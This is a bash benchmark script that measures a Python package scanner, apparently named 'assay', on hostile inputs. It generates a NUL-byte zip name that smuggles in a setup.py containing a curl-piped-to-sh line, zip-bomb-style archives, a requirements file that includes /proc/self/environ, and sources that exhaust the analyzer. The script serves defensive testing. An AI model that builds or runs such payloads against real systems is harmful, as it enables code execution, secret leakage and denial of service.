#!/usr/bin/env bash
# Peak memory and time of `assay` on the hostile-input reproductions of
# issue 12 that the artifact reader, the environment reader, the input
# reader and the per-file analysis budget bound. Each case is generated under a temporary folder and run once
# under /usr/bin/time -v; prints: case, exit code, seconds, peak RSS (KiB).
#
#   scripts/bench-hostile.sh            # uses target/debug/assay
#   ASSAY=path/to/assay scripts/bench-hostile.sh
set -uo pipefail
root=$(cd "$(dirname "$0")/.." && pwd)
assay=${ASSAY:-$root/target/debug/assay}
[ -x "$assay" ] || cargo build --locked --manifest-path "$root/Cargo.toml" -p assay-cli >&2
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

measure() {
    local name=$1
    shift
    /usr/bin/time -v -o "$work/time" "$@" > "$work/out" 2> "$work/err" < /dev/null
    local code=$?
    local secs rss
    secs=$(awk -F': ' '/Elapsed \(wall clock\)/ {print $2}' "$work/time")
    rss=$(awk -F': ' '/Maximum resident set size/ {print $2}' "$work/time")
    printf '%-34s exit %-3s %10s %10s KiB\n' "$name" "$code" "$secs" "$rss"
}

python3 - "$work" <<'PY'
import struct, sys, zipfile, io, os
work = sys.argv[1]

# 1. A NUL in a zip name: pip writes setup.py.
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("demo-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
    z.writestr("demo-1.0/setup.pyX.txt",
               "import os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n")
data = buf.getvalue().replace(b"setup.pyX.txt", b"setup.py\0.txt")
open(f"{work}/nul-1.0.zip", "wb").write(data)

# 2. A central directory of 2,000,000 records, all pointing at one entry.
local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
records = []
for i in range(2_000_000):
    name = b"%07d" % i
    records.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 0, 0, 0,
                               0, 0, 0, len(name), 0, 0, 0, 0, 0, 0) + name)
cd = b"".join(records)
end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, len(cd), len(local), 0)
open(f"{work}/many-1.0.zip", "wb").write(local + cd + end)
PY

# 3. A sparse 100 GiB library in an environment.
site=$work/venv/lib/python3.12/site-packages
mkdir -p "$site/native" "$site/native-1.0.dist-info" "$work/venv/bin"
printf 'home = /usr/bin\nversion = 3.12.4\n' > "$work/venv/pyvenv.cfg"
printf 'Metadata-Version: 2.1\nName: native\nVersion: 1.0\n' > "$site/native-1.0.dist-info/METADATA"
truncate -s 100G "$site/native/_core.so"
printf 'native/_core.so,sha256=AAAA,107374182400\nnative-1.0.dist-info/METADATA,,\nnative-1.0.dist-info/RECORD,,\n' \
    > "$site/native-1.0.dist-info/RECORD"

# 4. A requirements file that includes special files.
printf -- '-r /proc/self/environ\n' > "$work/environ.txt"
printf -- '-r /proc/self/fd/1\n' > "$work/stdout.txt"

measure "zip NUL name (nul-1.0.zip)" "$assay" scan "$work/nul-1.0.zip"
grep -o 'AY501[^"]*' "$work/out" | head -1
measure "zip 2M-record central directory" "$assay" scan "$work/many-1.0.zip"
measure "--env with sparse 100 GiB .so" "$assay" scan --env "$work/venv"
measure "-r /proc/self/environ" "$assay" scan -r "$work/environ.txt"
measure "-r /proc/self/fd/1 (stdout a pipe)" bash -c "'$assay' scan -r '$work/stdout.txt' | cat"

# 5. Python sources that blew up the analysis (one file each, scanned as a
#    folder package): the per-file analysis budget bounds them.
python3 - "$work" <<'PY'
import os, sys
work = sys.argv[1]
def pkg(name, code):
    d = f"{work}/src-{name}"
    os.makedirs(f"{d}/pkg", exist_ok=True)
    open(f"{d}/PKG-INFO", "w").write(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
    open(f"{d}/pkg/__init__.py", "w").write(code)
pkg("fstring", "s = 'ab'\n" + "s = f'{s}{s}'\n" * 64)
pkg("names1000", "a = 'x' * 4194303\n" + "".join(f"b{i} = a + '{i % 10}'\n" for i in range(1000)))
pkg("names20000", "a = 'x' * 4194303\n" + "".join(f"b{i} = a + '{i % 10}'\n" for i in range(20000)))
pkg("methods", "class C:\n" + "".join(f"    def m{i}(self):\n        return {i}\n" for i in range(6000)))
pkg("unary", "x = " + "-" * 5_000_000 + "1\n")
pkg("lines", "x=1\n" * 10_000_000)
pkg("bidi", "# \u202e\n" * 1_000_000)
pkg("fnested", "x = " + "f'{" * 100_000 + "1" + "}'" * 100_000 + "\n")
PY
for case in fstring names1000 names20000 methods unary lines bidi fnested; do
    measure "python: $case" "$assay" scan "$work/src-$case"
done
